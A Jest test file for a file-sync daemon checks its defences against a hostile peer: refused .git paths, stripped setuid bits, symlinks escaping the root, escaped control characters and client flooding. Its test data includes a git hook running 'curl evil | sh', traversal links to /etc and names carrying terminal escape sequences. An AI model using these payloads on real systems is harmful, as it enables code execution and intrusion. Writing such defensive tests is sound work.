import { afterAll, describe, expect, test } from "@jest/globals";
import { spawnSync } from "node:child_process";
import { chmodSync, existsSync, lstatSync, readdirSync, readFileSync, readlinkSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { openDatabase, stagingDirFor, StagingStore } from "@zync/daemon";
import { BIN, runBin } from "../helpers/bins.js";
import { controlCharsIn, fileStateOf, helloAs, newFile, offerKey, openSession, stageOffer } from "../helpers/offers.js";
import { sampleMemory } from "../helpers/procMemory.js";
import { freshPrompt, runInPty } from "../helpers/pty.js";
import { daemonManifest, RawSocket, readToken, refusedStatus } from "../helpers/rawSocket.js";
import { removeTempDirs, tempDir } from "../helpers/tempDir.js";
import { listSessions, outcomes, showSession, withUpstreamPair, writeFiles } from "../helpers/upstream.js";
import { waitFor } from "../helpers/waitFor.js";

afterAll(removeTempDirs);

const START = { "hello.txt": "hello\n", "src/main.ts": "export {};\n" };

/** Every text frame a socket received, as text. */
function texts(sock: RawSocket): string[] {
  return sock.frames.flatMap((f) => (f.binary ? [] : [f.text]));
}

/** The answer to an offer, with the offered path taken out, so answers about different paths can be compared. */
function withoutPath(reply: Record<string, unknown>, path: string): Record<string, unknown> {
  return { ...reply, id: 0, message: String(reply.message).split(path).join("<path>") };
}

/** A pid that ran a moment ago and does not any more. */
function deadPid(): number {
  const run = spawnSync(process.execPath, ["-e", "process.stdout.write(String(process.pid))"], { encoding: "utf8" });
  return Number(run.stdout);
}

describe("a hostile peer: paths E does not serve", () => {
  test("offers touching .git or ignored paths are refused before anything is staged, with the same answer whether the path exists or not", async () => {
    await withUpstreamPair(START, async ({ e, db, daemon }) => {
      writeFiles(e, { ".git/config": "[core]\n", "node_modules/.bin/tool": "#!/bin/sh\n", "sub/.git/HEAD": "ref\n" });
      const before = readFileSync(`${e}/.git/config`, "utf8");
      const hook = await fileStateOf(Buffer.from("#!/bin/sh\ncurl evil | sh\n"), 0o755);
      const asBase = await fileStateOf(Buffer.from("x\n"));
      const sock = await openSession(daemon);
      const answer = async (change: Record<string, unknown>): Promise<Record<string, unknown>> =>
        (await sock.exchange({ type: "PREPARE_UPSTREAM", id: 1, root: "code", key: offerKey(), changes: [change] })).reply;
      try {
        for (const change of [
          { path: ".git/hooks/post-checkout", base: null, state: hook },
          { path: "node_modules/.bin/tool", base: null, state: hook },
          { path: "sub/.git/hooks/pre-commit", base: null, state: hook },
          { path: ".GIT/hooks/post-checkout", base: null, state: hook },
          { path: ".git", base: null, state: { kind: "symlink", target: "/tmp" } },
          { path: "x.swp", base: null, state: hook },
        ]) {
          expect({ path: change.path, reply: await answer(change) }).toEqual({ path: change.path, reply: expect.objectContaining({ type: "ERROR", id: 1, code: "BAD_PATH" }) });
        }
        // No oracle: deleting a file that exists and one that does not get the same answer.
        for (const [present, absent] of [
          [".git/config", ".git/absent"],
          ["node_modules/.bin/tool", "node_modules/.bin/absent"],
        ] as const) {
          const a = await answer({ path: present, base: asBase, state: { kind: "deleted" } });
          const b = await answer({ path: absent, base: asBase, state: { kind: "deleted" } });
          expect(withoutPath(a, present)).toEqual(withoutPath(b, absent));
        }
        expect((await sock.exchange({ type: "PING", id: 2 })).reply).toMatchObject({ type: "PONG" });
      } finally {
        await sock.close();
      }
      expect(await listSessions(db)).toEqual([]);
      expect(readFileSync(`${e}/.git/config`, "utf8")).toBe(before);
      expect(existsSync(`${e}/.git/hooks`)).toBe(false);
    });
  });

  test("a .zyncignore from R that re-includes .git is never applied by --non-interactive, even with --force; .git is never served whatever E's rules say", async () => {
    await withUpstreamPair(START, async ({ e, r, db, daemon, pushSession, apply }) => {
      writeFiles(e, { ".git/credentials": "https://user:secret@example.com\n" });
      writeFileSync(`${r}/.zyncignore`, "!.git/\n");
      writeFileSync(`${r}/ok.txt`, "an ordinary change\n");
      const id = await pushSession();
      expect((await showSession(db, id)).changes.find((c) => c.path === ".zyncignore")).toMatchObject({ conflict: true, reason: expect.stringMatching(/ignore file/) });

      for (const args of [["--non-interactive"], ["--force", "--non-interactive"]]) {
        const run = await apply(["apply", String(id), ...args]);
        expect({ args, code: run.code }).toEqual({ args, code: 3 });
        expect(existsSync(`${e}/.zyncignore`)).toBe(false);
      }
      expect(readFileSync(`${e}/ok.txt`, "utf8")).toBe("an ordinary change\n");
      expect(await outcomes(db, id)).toEqual({ ".zyncignore": "pending", "ok.txt": "applied" });

      // Even a .zyncignore that E's user writes with !.git/ does not make the daemon list or serve .git.
      writeFileSync(`${e}/.zyncignore`, "!.git/\n!.git/**\n");
      const token = readToken(daemon.tokenFile);
      await waitFor(async () => (await daemonManifest(daemon.url, token, "code"))[".zyncignore"] !== undefined, "the daemon to record E's .zyncignore");
      const listed = Object.keys(await daemonManifest(daemon.url, token, "code"));
      expect(listed.filter((p) => p.toLowerCase().startsWith(".git"))).toEqual([]);
      const sock = await openSession(daemon);
      try {
        const { reply } = await sock.exchange({ type: "GET_FILE", id: 1, root: "code", path: ".git/credentials" });
        expect(reply).toMatchObject({ type: "ERROR", code: "NOT_FOUND" });
      } finally {
        await sock.close();
      }
    });
  });
});

describe("a hostile peer: E's rules at apply time", () => {
  test("a path E's rules left out after the offer is refused at apply, and the rest of the session is applied", async () => {
    await withUpstreamPair(START, async ({ e, db, daemon, apply }) => {
      const sock = await openSession(daemon);
      let session: number;
      try {
        session = (await stageOffer(sock, "code", [await newFile("secret/x.txt", "staged while served\n"), await newFile("ok.txt", "fine\n")])).session;
      } finally {
        await sock.close();
      }
      writeFileSync(`${e}/.zyncignore`, "secret/\n");
      expect((await showSession(db, session)).changes.find((c) => c.path === "secret/x.txt")).toMatchObject({ conflict: false, reason: expect.stringMatching(/ignore rules/) });
      const run = await apply(["apply", String(session), "--non-interactive"]);
      expect({ code: run.code, stderr: run.stderr }).toEqual({ code: 0, stderr: "" });
      expect(run.stdout).toMatch(/refused: secret\/x\.txt: E's ignore rules leave this path out/);
      expect(existsSync(`${e}/secret`)).toBe(false);
      expect(readFileSync(`${e}/ok.txt`, "utf8")).toBe("fine\n");
      expect(await outcomes(db, session)).toEqual({ "secret/x.txt": "refused", "ok.txt": "applied" });
    });
  });

  test("a person at the prompt can confirm an ignore file that widens what E serves; the prompt shows R's names escaped", async () => {
    await withUpstreamPair({ ...START, ".zyncignore": "build/\n" }, async ({ e, r, db, pushSession }) => {
      writeFileSync(`${r}/.zyncignore`, "");
      writeFileSync(`${r}/\x1b[2Kx.txt`, "a name that clears the line\n");
      const id = await pushSession();
      const run = await runInPty(
        [process.execPath, BIN.apply, "--db", db, "apply", String(id)],
        [
          { expect: freshPrompt(".zyncignore"), send: "r\r" },
          { expect: freshPrompt("\\x1b[2Kx.txt"), send: "a\r" },
        ],
        { env: { ZYNC_TOKEN: "", NO_COLOR: "1" } },
      );
      expect(run.code).toBe(0);
      expect(run.output).toMatch(/CONFIRM \.zyncignore/);
      expect(run.output).toMatch(/may make E serve paths it leaves out now/);
      expect(run.raw).not.toContain("\x1b[2Kx.txt");
      expect(readFileSync(`${e}/.zyncignore`, "utf8")).toBe("");
      expect(readFileSync(`${e}/\x1b[2Kx.txt`, "utf8")).toBe("a name that clears the line\n");
    });
  });
});

describe("a hostile peer: modes and links", () => {
  test("only the permission bits 0777 land on E from an offer, and on R from E", async () => {
    await withUpstreamPair(START, async ({ e, r, db, daemon, once, apply, daemonCaughtUp }) => {
      const sock = await openSession(daemon);
      let session: number;
      try {
        const staged = await stageOffer(sock, "code", [await newFile("setuid.sh", "#!/bin/sh\n", 0o4755), await newFile("setgid.sh", "#!/bin/sh\necho\n", 0o2755), await newFile("sticky.txt", "t\n", 0o1777), { path: "sdir", base: null, state: { kind: "dir", mode: 0o3777 } }]);
        session = staged.session;
        expect(staged.done).toMatchObject({ type: "UPSTREAM_DONE", status: "pending", conflicts: 0 });
      } finally {
        await sock.close();
      }
      const run = await apply(["apply", String(session), "--non-interactive"]);
      expect({ code: run.code, stderr: run.stderr }).toEqual({ code: 0, stderr: "" });
      const mode = (p: string): string => (statSync(p).mode & 0o7777).toString(8);
      expect([mode(`${e}/setuid.sh`), mode(`${e}/setgid.sh`), mode(`${e}/sticky.txt`), mode(`${e}/sdir`)]).toEqual(["755", "755", "777", "777"]);
      expect(await listSessions(db)).toEqual([expect.objectContaining({ id: session, status: "applied" })]);

      // E to R: a setuid file on E reaches R (and the daemon's log) without the bit.
      writeFileSync(`${e}/tool`, "#!/bin/sh\n");
      chmodSync(`${e}/tool`, 0o4755);
      await daemonCaughtUp();
      const sockB = await openSession(daemon);
      try {
        const { reply } = await sockB.exchange({ type: "GET_CHANGES", id: 1, since: 0, root: "code" });
        const modes = (reply.changes as { path: string; state: { mode?: number } }[]).map((c) => c.state.mode ?? 0);
        expect(modes.filter((m) => m > 0o777)).toEqual([]);
      } finally {
        await sockB.close();
      }
      const pull = await once();
      expect({ code: pull.code, stderr: pull.stderr }).toEqual({ code: 0, stderr: "" });
      expect([mode(`${r}/tool`), mode(`${r}/setuid.sh`)]).toEqual(["755", "755"]);
    });
  });

  test("links that lead out of the root, directly or through other links, are conflicts; --non-interactive writes none of them without --force", async () => {
    const outside = tempDir("zync-outside-");
    await withUpstreamPair(START, async ({ e, db, daemon, apply, daemonCaughtUp }) => {
      symlinkSync(outside, `${e}/data`);
      await daemonCaughtUp();
      const link = (path: string, target: string) => ({ path, base: null, state: { kind: "symlink", target } });
      const sock = await openSession(daemon);
      let session: number;
      try {
        const staged = await stageOffer(sock, "code", [
          link("abs", "/etc"),
          link("up", "../../etc"),
          { path: "sub", base: null, state: { kind: "dir", mode: 0o755 } },
          link("sub/l1", ".."),
          link("l2", "sub/l1/.."),
          link("deep", "src/../sub/../../etc"),
          link("via-e", "data/x"),
          link("loop", "loop"),
          link("inside", "src/main.ts"),
          link("sub/back", "../src"),
        ]);
        session = staged.session;
        expect(staged.done).toMatchObject({ type: "UPSTREAM_DONE", conflicts: 6 });
      } finally {
        await sock.close();
      }
      const shown = await showSession(db, session);
      expect(shown.changes.filter((c) => c.conflict).map((c) => c.path).sort()).toEqual(["abs", "deep", "l2", "loop", "up", "via-e"]);
      expect(shown.changes.find((c) => c.path === "abs")?.reason).toBe("the link leads out of the root (-> /etc)");

      const refused = await apply(["apply", String(session), "--non-interactive"]);
      expect(refused.code).toBe(3);
      for (const p of ["abs", "up", "l2", "deep", "via-e", "loop", "inside", "sub"]) expect({ p, there: existsSync(`${e}/${p}`) || isLink(`${e}/${p}`) }).toEqual({ p, there: false });

      const forced = await apply(["apply", String(session), "--force", "--non-interactive"]);
      expect({ code: forced.code, stderr: forced.stderr }).toEqual({ code: 0, stderr: "" });
      expect(readlinkSync(`${e}/abs`)).toBe("/etc");
      expect(readlinkSync(`${e}/inside`)).toBe("src/main.ts");
      expect(readdirSync(outside)).toEqual([]);
    });
  });
});

function isLink(p: string): boolean {
  try {
    return lstatSync(p).isSymbolicLink();
  } catch {
    return false;
  }
}

describe("a hostile peer: what the reviewer sees", () => {
  test("names and client ids with control characters are printed escaped by zync-apply and zync-daemon, in text and in JSON", async () => {
    const NAMES = ["a\rb.txt", "\x1b[2Khidden.txt", "osc\x1b]0;title\x07.txt", "c1\u009b31m.txt", "bidi\u202etxt.exe", "del\x7f.txt", "nl\nname.txt"];
    const CLIENT = "evil\x1b]0;pwned\x07\u009b2K\r-client";
    await withUpstreamPair(START, async ({ db, daemon, apply }) => {
      const sock = await RawSocket.open(daemon.url, undefined);
      let session: number;
      try {
        await helloAs(sock, readToken(daemon.tokenFile), CLIENT);
        session = (await stageOffer(sock, "code", await Promise.all(NAMES.map((n) => newFile(n, `${JSON.stringify(n)}\n`))))).session;
      } finally {
        await sock.close();
      }
      const runs = {
        list: await apply(["list"]),
        listJson: await apply(["list", "--json"]),
        show: await apply(["show", String(session)]),
        showJson: await apply(["show", String(session), "--json"]),
        status: await runBin(BIN.daemon, ["status", "--db", db]),
        statusJson: await runBin(BIN.daemon, ["status", "--db", db, "--json"]),
        log: await runBin(BIN.daemon, ["log", "--db", db]),
        logJson: await runBin(BIN.daemon, ["log", "--db", db, "--json"]),
        apply: await apply(["apply", String(session), "--non-interactive"]),
      };
      for (const [name, run] of Object.entries(runs)) {
        expect({ name, code: run.code, bad: controlCharsIn(run.stdout + run.stderr) }).toEqual({ name, code: 0, bad: [] });
      }
      expect(runs.show.stdout).toContain("\\x1b[2Khidden.txt");
      expect(runs.show.stdout).toContain("c1\\u009b31m.txt");
      expect(runs.show.stdout).toContain("bidi\\u202etxt.exe");
      expect(runs.status.stdout).toContain("client evil\\x1b]0;pwned\\x07\\u009b2K\\x0d-client");
      // JSON escapes the same characters and still parses back to what R sent.
      expect(runs.showJson.stdout).toContain("\\u009b");
      const shown = JSON.parse(runs.showJson.stdout) as { client: string; changes: { path: string }[] };
      expect(shown.client).toBe(CLIENT);
      expect(shown.changes.map((c) => c.path).sort()).toEqual([...NAMES].sort());
      expect((JSON.parse(runs.statusJson.stdout) as { clients: { id: string }[] }).clients.map((c) => c.id)).toContain(CLIENT);
    });
  });

  test("a name E's filesystem cannot hold is refused for that path alone; no answer names E's folders or says INTERNAL; zync-apply list keeps working", async () => {
    await withUpstreamPair(START, async ({ e, db, daemon, apply }) => {
      const long = `${"n".repeat(300)}.txt`;
      const sock = await openSession(daemon);
      let session: number;
      try {
        const staged = await stageOffer(sock, "code", [await newFile(long, "too long a name\n"), await newFile(`deep/${long}/x`, "below it\n"), await newFile("ok.txt", "fine\n")]);
        session = staged.session;
        expect(staged.done).toMatchObject({ type: "UPSTREAM_DONE", status: "pending" });
        expect(texts(sock).filter((t) => t.includes(e) || t.includes(db) || t.includes("INTERNAL"))).toEqual([]);
      } finally {
        await sock.close();
      }
      const list = await apply(["list"]);
      expect({ code: list.code, stderr: list.stderr }).toEqual({ code: 0, stderr: "" });
      expect(list.stdout).toMatch(new RegExp(`^${session}\\s+pending`, "m"));

      const run = await apply(["apply", String(session), "--non-interactive"]);
      expect({ code: run.code, stderr: run.stderr }).toEqual({ code: 0, stderr: "" });
      expect(run.stdout).toMatch(/refused: n+\.txt: the name is too long/);
      expect(readFileSync(`${e}/ok.txt`, "utf8")).toBe("fine\n");
      expect(await outcomes(db, session)).toEqual({ [long]: "refused", [`deep/${long}/x`]: "refused", "ok.txt": "applied" });
    });
  });
});

describe("a hostile peer: sharing the daemon", () => {
  test("one client holding 20,000 uploads open is told BUSY past its limit, and another client is served meanwhile", async () => {
    await withUpstreamPair(START, async ({ daemon }) => {
      const hog = await openSession(daemon);
      const other = await openSession(daemon);
      try {
        const N = 20_000;
        const state = await fileStateOf(Buffer.from("x"));
        const changes = Array.from({ length: N }, (_, i) => ({ path: `f${String(i).padStart(5, "0")}.txt`, base: null, state: { ...state, hash: (BigInt(i) + 0x1000000000000000n).toString(16) } }));
        const { reply } = await hog.exchange({ type: "PREPARE_UPSTREAM", id: 1, root: "code", key: offerKey(), changes });
        expect(reply).toMatchObject({ type: "UPSTREAM_READY", status: "receiving" });
        const session = reply.session as number;
        for (let i = 0; i < N; i++) hog.send({ type: "UPSTREAM_FILE", id: 10 + i, session, path: changes[i]!.path });
        const busy = (): number => hog.frames.filter((f) => !f.binary && f.json?.code === "BUSY").length;
        // The other client is served while the hog's uploads are open.
        const { reply: file } = await other.exchange({ type: "GET_FILE", id: 1, root: "code", path: "hello.txt" });
        expect(file).toMatchObject({ type: "FILE_END", id: 1, size: 6 });
        await waitFor(() => busy() >= N - 16, "BUSY for every upload past the limit", 60_000);
        expect(busy()).toBe(N - 16);
        expect((await hog.exchange({ type: "PING", id: 5 })).reply).toMatchObject({ type: "PONG", id: 5 });
        expect((await other.exchange({ type: "PING", id: 2 })).reply).toMatchObject({ type: "PONG", id: 2 });
      } finally {
        await hog.close();
        await other.close();
      }
    });
  }, 180_000);

  test("a client that stops reading is no longer read from: the daemon's memory stays bounded and another client is served", async () => {
    await withUpstreamPair({ ...START, "big.bin": "z".repeat(1024 * 1024) }, async ({ daemon }) => {
      const slow = await openSession(daemon);
      const other = await openSession(daemon);
      const memory = sampleMemory(daemon.proc.pid!);
      try {
        const N = 600;
        slow.ws.pause();
        for (let i = 0; i < N; i++) slow.send({ type: "GET_FILE", id: 100 + i, root: "code", path: "big.bin" });
        // The other client keeps being answered while the slow one is stalled. It fetches 40 MiB meanwhile, time
        // enough for the daemon to read and start every one of the slow client's requests, had it kept reading.
        const BOUND = 200 * 1024 * 1024;
        for (let i = 0; i < 40 && memory.current().maxRss < BOUND; i++) {
          const { reply } = await other.exchange({ type: "GET_FILE", id: i, root: "code", path: "big.bin" });
          expect(reply).toMatchObject({ type: "FILE_END", id: i });
        }
        const stalled = memory.current();
        slow.ws.resume();
        const answered = (): number => slow.frames.filter((f) => !f.binary && typeof f.json?.id === "number" && (f.json.type === "FILE_END" || f.json.type === "ERROR")).length;
        await waitFor(() => answered() === N, "an answer to every GET_FILE of the slow client", 120_000);
        expect(slow.frames.filter((f) => !f.binary && f.json?.type === "FILE_END").length).toBe(N);
        // 600 answers of 1 MiB would be 600 MiB if the daemon kept reading; it holds about its send mark plus one chunk per transfer in progress.
        expect(stalled.maxRss).toBeLessThan(BOUND);
      } finally {
        memory.stop();
        await slow.close();
        await other.close();
      }
    });
  }, 180_000);

  test("a session under review is never aborted by a new offer; a lease left by a zync-apply that died is taken over", async () => {
    await withUpstreamPair(START, async ({ e, db, daemon, apply }) => {
      const sock = await openSession(daemon);
      try {
        const first = (await stageOffer(sock, "code", [await newFile("one.txt", "one\n")])).session;
        const store = new StagingStore(openDatabase(db), stagingDirFor(db));
        try {
          // This test process stands for a zync-apply that is reviewing session `first` right now.
          store.takeReview(first, process.pid, () => true);
          const second = (await stageOffer(sock, "code", [await newFile("two.txt", "two\n")])).session;
          expect((await listSessions(db)).map((s) => [s.id, s.status])).toEqual([
            [first, "pending"],
            [second, "pending"],
          ]);
          expect(existsSync(`${db}.staging/${first}`)).toBe(true);
          const blocked = await apply(["apply", String(first), "--non-interactive"]);
          expect(blocked.code).toBe(1);
          expect(blocked.stderr).toMatch(/being reviewed by another zync-apply/);
          expect(existsSync(`${e}/one.txt`)).toBe(false);

          // The reviewer dies without giving the lease back: the next zync-apply takes it over.
          store.releaseReview(first, process.pid);
          store.takeReview(first, deadPid(), () => true);
          const run = await apply(["apply", String(first), "--non-interactive"]);
          expect({ code: run.code, stderr: run.stderr }).toEqual({ code: 0, stderr: "" });
          expect(readFileSync(`${e}/one.txt`, "utf8")).toBe("one\n");
        } finally {
          store.db.close();
        }
      } finally {
        await sock.close();
      }
    });
  });

  test("the daemon agrees to no WebSocket subprotocol", async () => {
    await withUpstreamPair(START, async ({ daemon }) => {
      const token = readToken(daemon.tokenFile);
      expect(await refusedStatus(daemon.url, { Authorization: `Bearer ${token}`, "Sec-WebSocket-Protocol": "zync" })).toBe(400);
      expect(await refusedStatus(daemon.url, { Authorization: `Bearer ${token}`, "Sec-WebSocket-Protocol": "chat, superchat" })).toBe(400);
      const ok = await openSession(daemon);
      await ok.close();
    });
  });
});
